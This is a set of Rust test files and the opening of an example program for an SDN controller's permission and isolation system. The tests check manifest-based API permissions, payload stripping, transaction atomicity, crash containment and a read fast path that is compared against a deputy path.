            "needy"
        }
        fn required_tokens(&self) -> Vec<PermissionToken> {
            vec![PermissionToken::InsertFlow, PermissionToken::PktInEvent]
        }
    }
    let c = controller();
    let err = c
        .register(
            Box::new(Needy),
            &parse_manifest("PERM pkt_in_event").unwrap(),
        )
        .unwrap_err();
    assert_eq!(
        err,
        RegisterError::MissingTokens(vec![PermissionToken::InsertFlow])
    );
    c.shutdown();
}

#[test]
fn payload_stripped_without_read_payload() {
    struct PayloadProbe {
        seen_len: Arc<AtomicUsize>,
    }
    impl App for PayloadProbe {
        fn name(&self) -> &str {
            "probe"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, _ctx: &AppCtx, event: &Event) {
            if let Event::PacketIn { packet_in, .. } = event {
                self.seen_len
                    .fetch_add(packet_in.payload.len(), Ordering::SeqCst);
            }
        }
    }
    let c = controller();
    let blind_len = Arc::new(AtomicUsize::new(0));
    let sighted_len = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(PayloadProbe {
            seen_len: Arc::clone(&blind_len),
        }),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();
    c.register(
        Box::new(PayloadProbe {
            seen_len: Arc::clone(&sighted_len),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM read_payload").unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"eight_by"));
    assert_eq!(blind_len.load(Ordering::SeqCst), 0, "payload stripped");
    assert_eq!(sighted_len.load(Ordering::SeqCst), 8);
    c.shutdown();
}

#[test]
fn publish_subscribe_chains_synchronously() {
    // A service app publishes on a topic whenever it sees a packet-in; a
    // consumer app reacts to the topic by installing a rule. One synchronous
    // deliver_packet_in must leave the rule installed.
    struct Publisher;
    impl App for Publisher {
        fn name(&self) -> &str {
            "publisher"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if matches!(event, Event::PacketIn { .. }) {
                ctx.publish("costs", Bytes::from_static(b"update")).unwrap();
            }
        }
    }
    struct Consumer;
    impl App for Consumer {
        fn name(&self) -> &str {
            "consumer"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe_topic("costs").unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if matches!(event, Event::Custom { .. }) {
                ctx.insert_flow(
                    DatapathId(2),
                    FlowMod::add(
                        FlowMatch::default().with_tp_dst(443),
                        Priority(20),
                        ActionList::output(PortNo(1)),
                    ),
                )
                .unwrap();
            }
        }
    }
    let c = controller();
    c.register(
        Box::new(Publisher),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();
    c.register(
        Box::new(Consumer),
        &parse_manifest("PERM insert_flow").unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    assert_eq!(c.kernel().flow_count(DatapathId(2)), 1);
    c.shutdown();
}

#[test]
fn many_apps_many_events_no_deadlock() {
    let c = ShieldedController::new(Network::new(builders::linear(2), 4096), 4);
    let installs = Arc::new(AtomicUsize::new(0));
    for _ in 0..8 {
        c.register(
            Box::new(Reactor {
                denials: Arc::new(AtomicUsize::new(0)),
                installs: Arc::clone(&installs),
            }),
            &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
        )
        .unwrap();
    }
    for i in 0..50 {
        c.deliver_packet_in(DatapathId(1 + (i % 2)), pi(b"z"));
    }
    assert_eq!(installs.load(Ordering::SeqCst), 8 * 50);
    c.shutdown();
}

#[test]
fn host_frame_injection_reaches_apps() {
    let c = controller();
    let installs = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Reactor {
            denials: Arc::new(AtomicUsize::new(0)),
            installs: Arc::clone(&installs),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
    )
    .unwrap();
    let arp = sdnshield_openflow::packet::EthernetFrame::arp_request(
        sdnshield_openflow::types::EthAddr::from_u64(1),
        sdnshield_openflow::types::Ipv4::new(10, 0, 0, 1),
        sdnshield_openflow::types::Ipv4::new(10, 0, 0, 2),
    );
    c.inject_host_frame(arp);
    assert_eq!(installs.load(Ordering::SeqCst), 1);
    c.shutdown();
}

#[test]
fn shutdown_is_idempotent_and_drop_safe() {
    let c = controller();
    c.register(
        Box::new(Reactor {
            denials: Arc::new(AtomicUsize::new(0)),
            installs: Arc::new(AtomicUsize::new(0)),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
    )
    .unwrap();
    c.shutdown();
    c.shutdown();
    drop(c); // Drop runs shutdown again.
}

#[test]
fn transactions_apply_atomically_across_threads() {
    struct TxnApp {
        outcome: Arc<AtomicUsize>,
    }
    impl App for TxnApp {
        fn name(&self) -> &str {
            "txn"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if let Event::PacketIn { .. } = event {
                let ok_op = sdnshield_controller::api::FlowOp {
                    dpid: DatapathId(1),
                    flow_mod: FlowMod::add(
                        FlowMatch::default()
                            .with_ip_dst(sdnshield_openflow::types::Ipv4::new(10, 13, 0, 1)),
                        Priority(10),
                        ActionList::output(PortNo(1)),
                    ),
                };
                let bad_op = sdnshield_controller::api::FlowOp {
                    dpid: DatapathId(1),
                    flow_mod: FlowMod::add(
                        FlowMatch::default()
                            .with_ip_dst(sdnshield_openflow::types::Ipv4::new(99, 0, 0, 1)),
                        Priority(10),
                        ActionList::output(PortNo(1)),
                    ),
                };
                match ctx.transaction(vec![ok_op, bad_op]) {
                    Err(e) if e.is_denied() => self.outcome.store(1, Ordering::SeqCst),
                    _ => self.outcome.store(2, Ordering::SeqCst),
                }
            }
        }
    }
    let c = controller();
    let outcome = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(TxnApp {
            outcome: Arc::clone(&outcome),
        }),
        &parse_manifest(
            "PERM pkt_in_event\nPERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0",
        )
        .unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    assert_eq!(outcome.load(Ordering::SeqCst), 1, "denied atomically");
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 0);
    c.shutdown();
}

#[test]
fn event_interception_orders_delivery() {
    // Two subscribers; the second one registers with EVENT_INTERCEPTION and
    // must nevertheless receive events first (paper §IV-B callback filters).
    use parking_lot::Mutex;
    struct OrderProbe {
        label: &'static str,
        log: Arc<Mutex<Vec<&'static str>>>,
    }
    impl App for OrderProbe {
        fn name(&self) -> &str {
            self.label
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, _ctx: &AppCtx, event: &Event) {
            if matches!(event, Event::PacketIn { .. }) {
                self.log.lock().push(self.label);
            }
        }
    }
    let c = controller();
    let log = Arc::new(Mutex::new(Vec::new()));
    c.register(
        Box::new(OrderProbe {
            label: "plain",
            log: Arc::clone(&log),
        }),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();
    c.register(
        Box::new(OrderProbe {
            label: "interceptor",
            log: Arc::clone(&log),
        }),
        &parse_manifest("PERM pkt_in_event LIMITING EVENT_INTERCEPTION").unwrap(),
    )
    .unwrap();
    for _ in 0..3 {
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
    }
    let order = log.lock().clone();
    assert_eq!(
        order,
        vec![
            "interceptor",
            "plain",
            "interceptor",
            "plain",
            "interceptor",
            "plain"
        ],
        "interceptor must always be delivered to first"
    );
    c.shutdown();
}

#[test]
fn crashing_app_is_contained() {
    // One app panics on every packet-in; its peer keeps working and the
    // controller stays responsive — the paper's robustness claim for
    // thread containment.
    struct Crasher;
    impl App for Crasher {
        fn name(&self) -> &str {
            "crasher"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, _ctx: &AppCtx, _event: &Event) {
            panic!("app bug");
        }
    }
    // Silence the expected panic backtrace noise.
    let prev_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));

    let c = controller();
    let installs = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Crasher),
        &parse_manifest("PERM pkt_in_event").unwrap(),
    )
    .unwrap();
    c.register(
        Box::new(Reactor {
            denials: Arc::new(AtomicUsize::new(0)),
            installs: Arc::clone(&installs),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
    )
    .unwrap();
    for _ in 0..3 {
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
    }
    assert_eq!(installs.load(Ordering::SeqCst), 3, "peer unaffected");
    assert_eq!(c.kernel().flow_count(DatapathId(1)), 1);
    c.shutdown();
    std::panic::set_hook(prev_hook);
}

#[test]
fn startup_panic_rejected_at_registration() {
    struct BadStart;
    impl App for BadStart {
        fn name(&self) -> &str {
            "bad-start"
        }
        fn on_start(&mut self, _ctx: &AppCtx) {
            panic!("init bug");
        }
    }
    let prev_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));
    let c = controller();
    let err = c
        .register(
            Box::new(BadStart),
            &parse_manifest("PERM pkt_in_event").unwrap(),
        )
        .unwrap_err();
    assert_eq!(err, RegisterError::StartupPanic);
    // The controller is still usable afterwards.
    c.register(
        Box::new(Reactor {
            denials: Arc::new(AtomicUsize::new(0)),
            installs: Arc::new(AtomicUsize::new(0)),
        }),
        &parse_manifest("PERM pkt_in_event\nPERM insert_flow").unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    c.shutdown();
    std::panic::set_hook(prev_hook);
}

#[test]
fn spawned_threads_inherit_app_privilege() {
    // Paper §VI-A: "all threads spawned from an unprivileged thread inherit
    // their parents' privilege". An app thread hands its context to a child
    // thread; the child's calls are still attributed to the app and checked
    // under the app's permissions.
    struct Spawner {
        child_denied: Arc<AtomicUsize>,
        child_allowed: Arc<AtomicUsize>,
    }
    impl App for Spawner {
        fn name(&self) -> &str {
            "spawner"
        }
        fn on_start(&mut self, ctx: &AppCtx) {
            ctx.subscribe(EventKind::PacketIn).unwrap();
        }
        fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
            if !matches!(event, Event::PacketIn { .. }) {
                return;
            }
            let ctx = ctx.clone();
            let denied = Arc::clone(&self.child_denied);
            let allowed = Arc::clone(&self.child_allowed);
            std::thread::spawn(move || {
                // In-scope insert: allowed under the parent's grant.
                let ok = ctx.insert_flow(
                    DatapathId(1),
                    FlowMod::add(
                        FlowMatch::default()
                            .with_ip_dst(sdnshield_openflow::types::Ipv4::new(10, 13, 0, 1)),
                        Priority(10),
                        ActionList::output(PortNo(1)),
                    ),
                );
                if ok.is_ok() {
                    allowed.fetch_add(1, Ordering::SeqCst);
                }
                // Out-of-scope insert: denied — the child has no more
                // privilege than its parent.
                let err = ctx.insert_flow(
                    DatapathId(1),
                    FlowMod::add(
                        FlowMatch::default()
                            .with_ip_dst(sdnshield_openflow::types::Ipv4::new(8, 8, 8, 8)),
                        Priority(10),
                        ActionList::output(PortNo(1)),
                    ),
                );
                if err.is_err() {
                    denied.fetch_add(1, Ordering::SeqCst);
                }
            })
            .join()
            .unwrap();
        }
    }
    let c = controller();
    let child_denied = Arc::new(AtomicUsize::new(0));
    let child_allowed = Arc::new(AtomicUsize::new(0));
    c.register(
        Box::new(Spawner {
            child_denied: Arc::clone(&child_denied),
            child_allowed: Arc::clone(&child_allowed),
        }),
        &parse_manifest(
            "PERM pkt_in_event\nPERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0",
        )
        .unwrap(),
    )
    .unwrap();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    assert_eq!(child_allowed.load(Ordering::SeqCst), 1);
    assert_eq!(child_denied.load(Ordering::SeqCst), 1);
    c.shutdown();
}
