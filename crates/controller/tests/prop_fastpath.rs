//! Differential property tests of the app-side read fast path: a kernel
//! whose read calls go through [`Kernel::try_serve_read`] (falling back to
//! `execute`, exactly as [`sdnshield_controller::app::AppCtx`] does) must be
//! observationally identical to a pure-deputy kernel fed the same call
//! script — across arbitrary manifests, call sequences, and epoch-bumping
//! tracker mutations interleaved mid-sequence.
//!
//! Structural guarantees proved here:
//!
//! * the fast path never returns a decision the deputy path would not;
//! * every mutating call and every stateful-plan read returns `None` from
//!   the fast path (it must traverse the deputy);
//! * under a concurrent epoch-bumping mutator, fast-path answers for
//!   call-only plans never waver (the decision cache + epoch revalidation
//!   cannot leak a stale verdict);
//! * at controller level, an app observes identical results with the fast
//!   lane on and off — and the `#[ignore]`d tier-2 test asserts the lane's
//!   ≥2× latency win on multi-core hosts.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use proptest::prelude::*;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_controller::isolation::{ControllerConfig, ShieldedController};
use sdnshield_controller::kernel::Kernel;
use sdnshield_core::api::{ApiCall, ApiCallKind, AppId, EventKind};
use sdnshield_core::filter::{
    ActionConstraint, FilterExpr, Ownership, PktOutSource, SingletonFilter, StatsLevel,
};
use sdnshield_core::lang::parse_manifest;
use sdnshield_core::perm::{Permission, PermissionSet};
use sdnshield_core::token::PermissionToken;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::{FlowMatch, MaskedIpv4};
use sdnshield_openflow::messages::{FlowMod, PacketIn, PacketInReason, PacketOut, StatsRequest};
use sdnshield_openflow::types::{BufferId, DatapathId, Ipv4, PortNo, Priority};

const READER: AppId = AppId(1);
const MUTATOR: AppId = AppId(2);

/// Singleton filters spanning every literal class the compiler
/// distinguishes: static, call-only, stateful, and stubs — the fast path
/// must defer to the deputy exactly when a stateful literal (or a plan the
/// compiler could not reduce to call-only) is in play.
fn arb_singleton() -> impl Strategy<Value = SingletonFilter> {
    prop_oneof![
        (0u32..4, 8u8..=24).prop_map(|(net, len)| {
            SingletonFilter::Pred(FlowMatch {
                ip_dst: Some(MaskedIpv4::prefix(Ipv4(net << 24), len)),
                ..FlowMatch::default()
            })
        }),
        (0u16..200).prop_map(SingletonFilter::MaxPriority),
        (0u16..200).prop_map(SingletonFilter::MinPriority),
        prop_oneof![
            Just(SingletonFilter::Action(ActionConstraint::Forward)),
            Just(SingletonFilter::Action(ActionConstraint::Drop)),
        ],
        prop_oneof![
            Just(SingletonFilter::Ownership(Ownership::OwnFlows)),
            Just(SingletonFilter::Ownership(Ownership::AllFlows)),
        ],
        (0u32..4).prop_map(SingletonFilter::MaxRuleCount),
        prop_oneof![
            Just(SingletonFilter::PktOut(PktOutSource::FromPktIn)),
            Just(SingletonFilter::PktOut(PktOutSource::Arbitrary)),
        ],
        prop_oneof![
            Just(SingletonFilter::Stats(StatsLevel::FlowLevel)),
            Just(SingletonFilter::Stats(StatsLevel::PortLevel)),
            Just(SingletonFilter::Stats(StatsLevel::SwitchLevel)),
        ],
        Just(SingletonFilter::Stub("AdminRange".into())),
    ]
}

fn arb_filter() -> impl Strategy<Value = FilterExpr> {
    let leaf = prop_oneof![
        Just(FilterExpr::True),
        arb_singleton().prop_map(FilterExpr::Atom),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 2..4).prop_map(FilterExpr::And),
            proptest::collection::vec(inner.clone(), 2..4).prop_map(FilterExpr::Or),
            inner.prop_map(|x| FilterExpr::Not(Box::new(x))),
        ]
    })
}

fn flow_mod(net: u32, len: u8, prio: u16, drop: bool) -> FlowMod {
    let actions = if drop {
        ActionList::drop()
    } else {
        ActionList::output(PortNo(1))
    };
    FlowMod::add(
        FlowMatch {
            ip_dst: Some(MaskedIpv4::prefix(Ipv4(net << 24), len)),
            ..FlowMatch::default()
        },
        Priority(prio),
        actions,
    )
}

/// The reader's calls: every fast-path-eligible read kind plus the mutating
/// kinds that must always traverse the deputy.
fn arb_call() -> impl Strategy<Value = ApiCall> {
    prop_oneof![
        Just(ApiCall::new(READER, ApiCallKind::ReadTopology)),
        (0u32..4, 8u8..=32).prop_map(|(net, len)| {
            ApiCall::new(
                READER,
                ApiCallKind::ReadFlowTable {
                    dpid: DatapathId(1),
                    query: FlowMatch {
                        ip_dst: Some(MaskedIpv4::prefix(Ipv4(net << 24), len)),
                        ..FlowMatch::default()
                    },
                },
            )
        }),
        (0u8..3).prop_map(|lvl| {
            let request = match lvl {
                0 => StatsRequest::Flow(FlowMatch::any()),
                1 => StatsRequest::Port(PortNo::NONE),
                _ => StatsRequest::Table,
            };
            ApiCall::new(
                READER,
                ApiCallKind::ReadStatistics {
                    dpid: DatapathId(1),
                    request,
                },
            )
        }),
        (0u32..4, 8u8..=32, 0u16..200, any::<bool>()).prop_map(|(net, len, prio, drop)| {
            ApiCall::new(
                READER,
                ApiCallKind::InsertFlow {
                    dpid: DatapathId(1),
                    flow_mod: flow_mod(net, len, prio, drop),
                },
            )
        }),
        (0u32..4, 8u8..=32, 0u16..200, any::<bool>()).prop_map(|(net, len, prio, drop)| {
            ApiCall::new(
                READER,
                ApiCallKind::DeleteFlow {
                    dpid: DatapathId(1),
                    flow_mod: flow_mod(net, len, prio, drop),
                },
            )
        }),
        (0u8..4).prop_map(|which| {
            ApiCall::new(
                READER,
                ApiCallKind::SendPacketOut {
                    dpid: DatapathId(1),
                    packet_out: PacketOut {
                        buffer_id: BufferId::NO_BUFFER,
                        in_port: PortNo(1),
                        actions: ActionList::output(PortNo(2)),
                        payload: bytes::Bytes::from(vec![which]),
                    },
                },
            )
        }),
    ]
}

/// One step of a script: a reader call, or an epoch-bumping mutation issued
/// by a second app (a real mediated insert — it records ownership in the
/// tracker and therefore bumps the context epoch).
#[derive(Debug, Clone)]
enum Step {
    Call(ApiCall),
    Mutate { net: u32, prio: u16 },
}

fn arb_step() -> impl Strategy<Value = Step> {
    prop_oneof![
        arb_call().prop_map(Step::Call),
        arb_call().prop_map(Step::Call),
        arb_call().prop_map(Step::Call),
        (0u32..4, 0u16..200).prop_map(|(net, prio)| Step::Mutate { net, prio }),
    ]
}

/// Two kernels registered identically: the reader under the generated
/// filter manifest, the mutator with unconditional insert rights.
fn kernel_pair(filter: &FilterExpr) -> (Kernel, Kernel) {
    let manifest = PermissionSet::from_permissions([
        Permission::limited(PermissionToken::ReadFlowTable, filter.clone()),
        Permission::limited(PermissionToken::VisibleTopology, filter.clone()),
        Permission::limited(PermissionToken::ReadStatistics, filter.clone()),
        Permission::limited(PermissionToken::InsertFlow, filter.clone()),
        Permission::limited(PermissionToken::DeleteFlow, filter.clone()),
        Permission::limited(PermissionToken::SendPktOut, filter.clone()),
    ]);
    let mutator_manifest = parse_manifest("PERM insert_flow").unwrap();
    let mk = || {
        let k = Kernel::new(Network::new(builders::linear(2), 1024), true);
        k.register_app(READER, "reader", &manifest).unwrap();
        k.register_app(MUTATOR, "mutator", &mutator_manifest)
            .unwrap();
        k
    };
    (mk(), mk())
}

fn mutate(kernel: &Kernel, net: u32, prio: u16) {
    let call = ApiCall::new(
        MUTATOR,
        ApiCallKind::InsertFlow {
            dpid: DatapathId(2),
            flow_mod: flow_mod(net, 16, prio, false),
        },
    );
    kernel.execute(&call).0.unwrap();
}

fn is_read(kind: &ApiCallKind) -> bool {
    matches!(
        kind,
        ApiCallKind::ReadTopology
            | ApiCallKind::ReadFlowTable { .. }
            | ApiCallKind::ReadStatistics { .. }
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// The whole-script differential: a kernel answering reads through the
    /// fast path whenever it volunteers must match a pure-deputy kernel
    /// call for call, with epoch-bumping mutations interleaved anywhere in
    /// the sequence. Mutating calls must never be fast-served.
    #[test]
    fn fast_path_matches_pure_deputy_kernel(
        f in arb_filter(),
        script in proptest::collection::vec(arb_step(), 1..24),
    ) {
        let (fast_kernel, deputy_kernel) = kernel_pair(&f);
        for step in &script {
            match step {
                Step::Mutate { net, prio } => {
                    let before = fast_kernel.context_epoch();
                    mutate(&fast_kernel, *net, *prio);
                    mutate(&deputy_kernel, *net, *prio);
                    prop_assert!(
                        fast_kernel.context_epoch() != before,
                        "a recorded insert must bump the context epoch"
                    );
                }
                Step::Call(call) => {
                    let fast = match fast_kernel.try_serve_read(call) {
                        Some(result) => {
                            prop_assert!(
                                is_read(&call.kind),
                                "fast path served a non-read call: {:?}", call.kind
                            );
                            result
                        }
                        // Exactly what AppCtx does on a fast-path miss.
                        None => fast_kernel.execute(call).0,
                    };
                    let deputy = deputy_kernel.execute(call).0;
                    prop_assert_eq!(
                        fast, deputy,
                        "fast and deputy kernels diverged on {:?}", call.kind
                    );
                }
            }
        }
    }

    /// Mutating kinds are structurally barred from the fast lane, whatever
    /// the manifest says.
    #[test]
    fn mutating_calls_never_fast_served(
        f in arb_filter(),
        net in 0u32..4,
        prio in 0u16..200,
    ) {
        let (kernel, _) = kernel_pair(&f);
        let mutating = [
            ApiCallKind::InsertFlow { dpid: DatapathId(1), flow_mod: flow_mod(net, 16, prio, false) },
            ApiCallKind::DeleteFlow { dpid: DatapathId(1), flow_mod: flow_mod(net, 16, prio, false) },
            ApiCallKind::SendPacketOut {
                dpid: DatapathId(1),
                packet_out: PacketOut {
                    buffer_id: BufferId::NO_BUFFER,
                    in_port: PortNo(1),
                    actions: ActionList::output(PortNo(2)),
                    payload: bytes::Bytes::new(),
                },
            },
        ];
        for kind in mutating {
            let call = ApiCall::new(READER, kind);
            prop_assert!(kernel.try_serve_read(&call).is_none());
        }
    }
}

/// A stateful-plan read (MAX_RULE_COUNT consults the tracker's live rule
/// count) must always defer to the deputy, even though the call kind is
/// fast-path-eligible.
#[test]
fn stateful_plan_reads_defer_to_deputy() {
    let manifest = PermissionSet::from_permissions([Permission::limited(
        PermissionToken::ReadStatistics,
        FilterExpr::Atom(SingletonFilter::MaxRuleCount(5)),
    )]);
    let kernel = Kernel::new(Network::new(builders::linear(1), 1024), true);
    kernel.register_app(READER, "reader", &manifest).unwrap();
    let call = ApiCall::new(
        READER,
        ApiCallKind::ReadStatistics {
            dpid: DatapathId(1),
            request: StatsRequest::Table,
        },
    );
    assert!(
        kernel.try_serve_read(&call).is_none(),
        "a stateful plan must not be served on the fast path"
    );
    // The deputy path still answers it.
    let (result, _) = kernel.execute(&call);
    assert!(result.is_ok());
}

/// Forced epoch races: a mutator thread hammers the tracker (every insert
/// bumps the context epoch) while the main thread reads through the fast
/// path. Call-only decisions are epoch-independent — the epoch only keys
/// the decision cache — so any waver in the answers would be a stale cache
/// entry leaking through the revalidation window.
#[test]
fn concurrent_epoch_bumps_never_change_call_only_decisions() {
    // SWITCH_LEVEL is the coarsest grant: table summaries pass, flow-level
    // detail is denied — both verdicts are call-only (epoch-independent).
    let manifest = PermissionSet::from_permissions([Permission::limited(
        PermissionToken::ReadStatistics,
        FilterExpr::Atom(SingletonFilter::Stats(StatsLevel::SwitchLevel)),
    )]);
    let kernel = Arc::new(Kernel::new(Network::new(builders::linear(2), 1024), true));
    kernel.register_app(READER, "reader", &manifest).unwrap();
    kernel
        .register_app(
            MUTATOR,
            "mutator",
            &parse_manifest("PERM insert_flow").unwrap(),
        )
        .unwrap();
    let allowed_call = ApiCall::new(
        READER,
        ApiCallKind::ReadStatistics {
            dpid: DatapathId(1),
            request: StatsRequest::Table,
        },
    );
    let denied_call = ApiCall::new(
        READER,
        ApiCallKind::ReadStatistics {
            dpid: DatapathId(1),
            request: StatsRequest::Flow(FlowMatch::any()),
        },
    );
    let stop = Arc::new(AtomicBool::new(false));
    let mutator = {
        let kernel = Arc::clone(&kernel);
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut prio = 0u16;
            while !stop.load(Ordering::Relaxed) {
                prio = prio.wrapping_add(1);
                mutate(&kernel, u32::from(prio) % 4, prio % 200);
            }
        })
    };
    let mut hits = 0u32;
    for _ in 0..4_000 {
        if let Some(result) = kernel.try_serve_read(&allowed_call) {
            assert!(result.is_ok(), "allowed call wavered under epoch races");
            hits += 1;
        }
        if let Some(result) = kernel.try_serve_read(&denied_call) {
            let err = result.expect_err("denied call wavered under epoch races");
            assert!(err.is_denied());
            hits += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    mutator.join().unwrap();
    assert!(
        hits > 0,
        "the fast path never served a single call; epoch revalidation is too strict"
    );
}

/// An app that performs a fixed read/write script and records every result
/// (debug-formatted) for comparison across controller configurations.
struct ScriptedReader {
    log: Arc<Mutex<Vec<String>>>,
}

impl App for ScriptedReader {
    fn name(&self) -> &str {
        "scripted-reader"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        let mut log = self.log.lock().unwrap();
        for round in 0u16..4 {
            log.push(format!("{:?}", ctx.read_topology()));
            log.push(format!(
                "{:?}",
                ctx.read_flow_table(DatapathId(1), FlowMatch::any())
            ));
            log.push(format!(
                "{:?}",
                ctx.read_statistics(DatapathId(1), StatsRequest::Table)
            ));
            // A mutating call mid-script: bumps the context epoch, so the
            // next round's reads cross an invalidation boundary.
            log.push(format!(
                "{:?}",
                ctx.insert_flow(
                    DatapathId(1),
                    FlowMod::add(
                        FlowMatch::default().with_tp_dst(round + 1),
                        Priority(100),
                        ActionList::output(PortNo(1)),
                    ),
                )
            ));
        }
    }

    fn on_event(&mut self, _ctx: &AppCtx, _event: &Event) {}
}

fn run_scripted(read_fast_path: bool) -> (Vec<String>, u64) {
    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(2), 1024),
        ControllerConfig {
            read_fast_path,
            ..ControllerConfig::default()
        },
    );
    let log = Arc::new(Mutex::new(Vec::new()));
    c.register(
        Box::new(ScriptedReader {
            log: Arc::clone(&log),
        }),
        &parse_manifest(
            "PERM read_flow_table\nPERM visible_topology\nPERM read_statistics\nPERM insert_flow",
        )
        .unwrap(),
    )
    .unwrap();
    c.quiesce();
    let hits = c.fast_path_hits();
    c.shutdown();
    let log = log.lock().unwrap().clone();
    (log, hits)
}

/// Controller-level differential: the same app observes byte-identical
/// results with the fast lane on and off — and the lane actually engages
/// when enabled.
#[test]
fn controller_results_identical_with_fast_lane_on_and_off() {
    let (fast_log, fast_hits) = run_scripted(true);
    let (deputy_log, deputy_hits) = run_scripted(false);
    assert_eq!(fast_log, deputy_log);
    assert!(
        fast_hits >= 12,
        "expected all 12 reads on the fast lane, got {fast_hits}"
    );
    assert_eq!(deputy_hits, 0, "disabled lane must never serve a call");
}

/// A packet-in handler that issues a burst of mediated reads per event —
/// the workload whose latency the fast lane exists to cut.
struct ReadHeavy;

impl App for ReadHeavy {
    fn name(&self) -> &str {
        "read-heavy"
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).expect("subscribe");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let Event::PacketIn { dpid, .. } = event else {
            return;
        };
        for _ in 0..16 {
            let _ = ctx.read_statistics(*dpid, StatsRequest::Table);
        }
    }
}

fn mediated_read_latency(read_fast_path: bool, events: usize) -> f64 {
    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(1), 1_000_000),
        ControllerConfig {
            read_fast_path,
            ..ControllerConfig::default()
        },
    );
    c.register(
        Box::new(ReadHeavy),
        &parse_manifest("PERM pkt_in_event\nPERM read_statistics").unwrap(),
    )
    .unwrap();
    let mk_pi = |i: usize| PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: bytes::Bytes::from(vec![i as u8; 8]),
    };
    for i in 0..64 {
        c.deliver_packet_in(DatapathId(1), mk_pi(i));
    }
    let t = Instant::now();
    for i in 0..events {
        c.deliver_packet_in(DatapathId(1), mk_pi(i));
    }
    let elapsed = t.elapsed().as_secs_f64();
    c.shutdown();
    elapsed / events as f64
}

/// Tier-2 (run explicitly with `cargo test -- --ignored` on a multi-core
/// host): serving a read-heavy handler's calls on the fast lane must beat
/// the pure-deputy path by ≥2× on mediated packet-in latency. Meaningless
/// on single-core CI runners, where the app and deputy threads cannot
/// overlap — hence ignored by default.
#[test]
#[ignore = "tier-2 fast-lane assertion; needs >= 2 hardware threads"]
fn fast_lane_beats_pure_deputy_by_2x() {
    let parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    assert!(
        parallelism >= 2,
        "host has {parallelism} hardware threads; the lane's win cannot materialize"
    );
    let events = 1_000;
    let deputy = mediated_read_latency(false, events);
    let fast = mediated_read_latency(true, events);
    assert!(
        deputy >= 2.0 * fast,
        "fast lane {:.2}us/event vs deputy {:.2}us/event — speedup {:.2}x < 2x",
        fast * 1e6,
        deputy * 1e6,
        deputy / fast
    );
}
