//! Drives the supervision subsystem end-to-end through the public API:
//! crash reaping, restart backoff, deputy fault containment, watchdog
//! respawn, and overload shedding.
//!
//! ```text
//! cargo run -p sdnshield-controller --example supervision_demo
//! ```

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use sdnshield_apps::attacks::CrasherApp;
use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_controller::{FaultPlan, RestartPolicy, ShieldedController};
use sdnshield_core::api::EventKind;
use sdnshield_core::lang::parse_manifest;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::messages::{PacketIn, PacketInReason};
use sdnshield_openflow::types::{BufferId, DatapathId, PortNo};

